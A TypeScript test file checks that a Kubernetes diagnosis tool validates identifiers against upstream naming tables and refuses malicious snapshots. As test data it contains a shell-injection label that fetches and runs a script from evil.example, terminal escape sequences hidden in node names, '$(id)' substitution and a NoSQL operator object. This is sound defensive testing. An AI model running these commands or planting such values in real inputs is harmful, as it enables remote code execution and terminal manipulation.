/**
 * Kubernetes' identifier rules (src/snapshot/identifiers.ts) against the valid and invalid examples
 * of upstream's own tables (k8s.io/apimachinery pkg/util/validation/validation_test.go and
 * pkg/api/validate/content/kube_test.go), and snapshots that break them refused at load with the
 * JSON path of the bad value.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { promisify } from 'node:util';
import { parseSnapshot, SnapshotError } from '../../src/snapshot/file.js';
import { follows, identifierProblems, type RuleName } from '../../src/snapshot/identifiers.js';
import type { Snapshot } from '../../src/snapshot/schema.js';
import { buildSnapshot } from '../support/snapshot-builder.js';
import { builtCliSkip } from '../support/tier.js';

const CLI = 'dist/src/cli.js';
const a = (n: number, c = 'a'): string => c.repeat(n);

const TABLES: Record<Exclude<RuleName, 'nodeStateName'>, { good: string[]; bad: string[] }> = {
  dns1123Label: {
    good: ['a', 'ab', 'abc', 'a1', 'a-1', 'a--1--2--b', '0', '01', '012', '1a', '1-a', '1--a--b--2', a(63)],
    bad: ['', 'A', 'ABC', 'aBc', 'A1', 'A-1', '1-A', '-', 'a-', '-a', '1-', '-1', '_', 'a_', '_a', 'a_b', '1_', '_1', '1_2',
      '.', 'a.', '.a', 'a.b', '1.', '.1', '1.2', ' ', 'a ', ' a', 'a b', '1 ', ' 1', '1 2', a(64)],
  },
  dns1123Subdomain: {
    good: ['a', 'ab', 'abc', 'a1', 'a-1', 'a--1--2--b', '0', '01', '012', '1a', '1-a', '1--a--b--2', 'a.a', 'ab.a', 'abc.a', 'a1.a',
      'a-1.a', 'a--1--2--b.a', 'a.1', 'ab.1', 'abc.1', 'a1.1', 'a-1.1', 'a--1--2--b.1', '0.a', '01.a', '012.a', '1a.a', '1-a.a',
      '0.1', '01.1', '012.1', '1a.1', '1-a.1', '1--a--b--2.1', 'a.b.c.d.e', 'aa.bb.cc.dd.ee', '1.2.3.4.5', '11.22.33.44.55', a(253)],
    bad: ['', 'A', 'ABC', 'aBc', 'A1', 'A-1', '1-A', '-', 'a-', '-a', '1-', '-1', '_', 'a_', '_a', 'a_b', '1_', '_1', '1_2',
      '.', 'a.', '.a', 'a..b', '1.', '.1', '1..2', ' ', 'a ', ' a', 'a b', '1 ', ' 1', '1 2', 'A.a', 'aB.a', 'ab.A', 'A1.a', 'a1.A',
      'A.1', 'aB.1', 'A1.1', '1A.1', '0.A', '01.A', '012.A', '1A.a', '1a.A', 'A.B.C.D.E', 'AA.BB.CC.DD.EE', 'a.B.c.d.e', 'aa.bB.cc.dd.ee',
      'a@b', 'a,b', 'a_b', 'a;b', 'a:b', 'a%b', 'a?b', 'a$b', a(254)],
  },
  dns1035Label: {
    good: ['a', 'ab', 'abc', 'a1', 'a-1', 'a--1--2--b', a(63)],
    bad: ['0', '01', '012', '1a', '1-a', '1--a--b--2', '', 'A', 'ABC', 'aBc', 'A1', 'A-1', '1-A', '-', 'a-', '-a', '1-', '-1',
      '_', 'a_', '_a', 'a_b', '1_', '_1', '1_2', '.', 'a.', '.a', 'a.b', '1.', '.1', '1.2', ' ', 'a ', ' a', 'a b', '1 ', ' 1', '1 2', a(64)],
  },
  labelKey: {
    good: ['simple', 'now-with-dashes', '1-starts-with-num', '1234', 'simple/simple', 'now-with-dashes/simple', 'now-with-dashes/now-with-dashes',
      'now.with.dots/simple', 'now-with.dashes-and.dots/simple', '1-num.2-num/3-num', '1234/5678', '1.2.3.4/5678', 'Uppercase_Is_OK_123',
      'example.com/Uppercase_Is_OK_123', 'requests.storage-foo', a(63), `${a(253)}/${a(63, 'b')}`],
    bad: ['nospecialchars%^=@', 'cantendwithadash-', '-cantstartwithadash-', 'only/one/slash', 'Example.com/abc', 'example_com/abc',
      'example.com/', '/simple', a(64), `${a(254)}/abc`, ''],
  },
  labelValue: {
    good: ['simple', 'now-with-dashes', '1-starts-with-num', 'end-with-num-1', '1234', a(63), ''],
    bad: ['nospecialchars%^=@', 'Tama-nui-te-rā.is.Māori.sun', '\\backslashes\\are\\bad', '-starts-with-dash', 'ends-with-dash-',
      '.starts.with.dot', 'ends.with.dot.', a(64)],
  },
  portName: {
    good: ['telnet', 're-mail-ck', 'pop3', 'a', 'a-1', '1-a', 'a-1-b-2-c', '1-a-2-b-3'],
    bad: ['longerthan15characters', '', a(16), '12345', '1-2-3-4', '-begin', 'end-', 'two--hyphens', 'whois++'],
  },
};

describe('identifier rules match upstream\'s examples', () => {
  for (const [rule, { good, bad }] of Object.entries(TABLES) as [RuleName, { good: string[]; bad: string[] }][]) {
    test(rule, () => {
      assert.deepEqual(good.filter((v) => !follows(rule, v)), [], 'valid upstream, refused here');
      assert.deepEqual(bad.filter((v) => follows(rule, v)), [], 'invalid upstream, accepted here');
    });
  }
  test('a name np-doctor gives a node it knows only by address is a subdomain or an IP', () => {
    for (const ok of ['node-a', 'ip-10-0-1-5.eu-west-1.compute.internal', '192.168.49.2', 'fd00::1']) assert.ok(follows('nodeStateName', ok), ok);
    for (const no of ['Node_A', 'fd00::1;id', '', 'node\x1b]0;x\x07']) assert.ok(!follows('nodeStateName', no), no);
  });
  test('no rule lets a control character, a quote or a shell metacharacter through', () => {
    for (const rule of Object.keys(TABLES) as RuleName[]) {
      for (const v of ['a\x1bb', 'a\u202eb', 'a"b', "a'b", 'a;b', 'a$b', 'a|b', 'a b', 'a\nb', 'a`b']) assert.ok(!follows(rule, v), `${rule} accepts ${JSON.stringify(v)}`);
    }
  });
});

const refusal = (s: Snapshot): SnapshotError => {
  try {
    parseSnapshot(Buffer.from(JSON.stringify(s)), 'ticket.json');
  } catch (e) {
    if (e instanceof SnapshotError) return e;
    throw e;
  }
  assert.fail('the snapshot loaded');
};

describe('a snapshot whose identifiers break the rules is refused, naming the JSON path', () => {
  test('a label value that is a shell command', () => {
    const s = buildSnapshot();
    s.cluster.pods[0]!.metadata.labels = { app: ';curl${IFS}-s${IFS}evil.example|sh;#' };
    const e = refusal(s);
    assert.match(e.message, /^ticket\.json: refused: an identifier breaks Kubernetes' naming rules/);
    assert.ok(e.message.includes('cluster.pods[0].metadata.labels["app"]: ";curl${IFS}-s${IFS}evil.example|sh;#" is not a label value'), e.message);
  });

  test('an ESC in a node name is shown escaped, in every place it appears', () => {
    const s = buildSnapshot();
    const evil = 'node-a\x1b]0;pwned\x07';
    s.nodes[0]!.name = evil;
    s.cluster.nodes[0]!.metadata.name = evil;
    const e = refusal(s);
    assert.ok(!e.message.includes('\x1b') && !e.message.includes('\x07'), 'the raw control characters are not in the message');
    assert.ok(e.message.includes('cluster.nodes[0].metadata.name: "node-a\\x1b]0;pwned\\x07" is not a DNS-1123 subdomain'), e.message);
    assert.ok(e.message.includes('nodes[0].name: "node-a\\x1b]0;pwned\\x07" is not a node name'), e.message);
    assert.match(e.message, /refused: 2 identifiers break/);
  });

  test('every place the rules apply is checked', () => {
    const s = buildSnapshot();
    const bad = 'Bad_Name!';
    s.target.service = '1frontend';
    s.cluster.services[0]!.spec = { selector: { 'app/x/y': 'web' }, ports: [{ name: 'HTTP', port: 80, targetPort: 'http--alt' }] };
    s.cluster.endpointSlices[0]!.endpoints = [{ addresses: ['10.244.1.5'], nodeName: bad, targetRef: { kind: 'Pod', name: bad, namespace: 'Shop' } }];
    s.cluster.endpointSlices[0]!.ports = [{ name: 'Http', port: 8080 }];
    s.cluster.pods[0]!.spec = { nodeName: bad, containers: [{ name: 'Web', ports: [{ name: 'web--1', containerPort: 80 }] }] };
    s.cluster.networkPolicies.push({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'p', namespace: 'shop' },
      spec: { podSelector: { matchExpressions: [{ key: '-x', operator: 'In', values: ['ok', 'not ok'] }] }, ingress: [{ from: [{ namespaceSelector: { matchLabels: { team: '$(id)' } } }], ports: [{ port: 'HTTP' }] }] } });
    const { problems, count } = identifierProblems(s, 100);
    assert.deepEqual(problems.map((p) => p.path), [
      'target.service',
      'cluster.services[0].spec.selector["app/x/y"]',
      'cluster.services[0].spec.ports[0].name',
      'cluster.services[0].spec.ports[0].targetPort',
      'cluster.endpointSlices[0].endpoints[0].nodeName',
      'cluster.endpointSlices[0].endpoints[0].targetRef.name',
      'cluster.endpointSlices[0].endpoints[0].targetRef.namespace',
      'cluster.endpointSlices[0].ports[0].name',
      'cluster.pods[0].spec.nodeName',
      'cluster.pods[0].spec.containers[0].name',
      'cluster.pods[0].spec.containers[0].ports[0].name',
      'cluster.networkPolicies[0].spec.podSelector.matchExpressions[0].key',
      'cluster.networkPolicies[0].spec.podSelector.matchExpressions[0].values[1]',
      'cluster.networkPolicies[0].spec.ingress[0].from[0].namespaceSelector.matchLabels["team"]',
      'cluster.networkPolicies[0].spec.ingress[0].ports[0].port',
    ]);
    assert.equal(count, problems.length);
    assert.match(refusal(s).message, /refused: 15 identifiers break .*\n(?: {2}.*\n){5} {2}… and 10 more$/);
  });

  test('the built CLI refuses it with exit 2, the path and the value escaped', { skip: builtCliSkip() }, async () => {
    assert.ok(existsSync(CLI), `${CLI} is missing: npm run build first (npm test does)`);
    const s = buildSnapshot();
    s.cluster.pods[0]!.metadata.labels = { app: ';curl${IFS}-s${IFS}evil.example|sh;#' };
    s.nodes[0]!.name = 'node-a\x1b[2J';
    const dir = mkdtempSync(join(tmpdir(), 'npd-ident-'));
    try {
      const file = join(dir, 'ticket.json');
      writeFileSync(file, JSON.stringify(s));
      const r = await promisify(execFile)('node', [CLI, 'diagnose', 'svc/frontend', '-n', 'shop', '--snapshot', file], { timeout: 60_000 })
        .then(() => assert.fail('the CLI accepted the snapshot'), (e: unknown) => e as { code: number; stderr: string });
      assert.equal(r.code, 2, r.stderr);
      assert.ok(r.stderr.includes('cluster.pods[0].metadata.labels["app"]: ";curl${IFS}-s${IFS}evil.example|sh;#" is not a label value'), r.stderr);
      assert.ok(r.stderr.includes('nodes[0].name: "node-a\\x1b[2J" is not a node name'), r.stderr);
      assert.ok(!r.stderr.includes('\x1b'), 'no raw ESC reaches the terminal');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('a value of the wrong type where a name belongs is refused too', () => {
    const s = buildSnapshot();
    (s.cluster.pods[0]!.spec as { nodeName: unknown }).nodeName = { $gt: '' };
    assert.match(refusal(s).message, /cluster\.pods\[0\]\.spec\.nodeName: \{"\$gt":""\} \(not a string\) is not a DNS-1123 subdomain/);
  });

  test('the builder snapshot and its redaction load', async () => {
    const { redactSnapshot } = await import('../../src/snapshot/redact.js');
    assert.deepEqual(identifierProblems(buildSnapshot()).problems, []);
    assert.deepEqual(identifierProblems(redactSnapshot(buildSnapshot())).problems, []);
  });
});
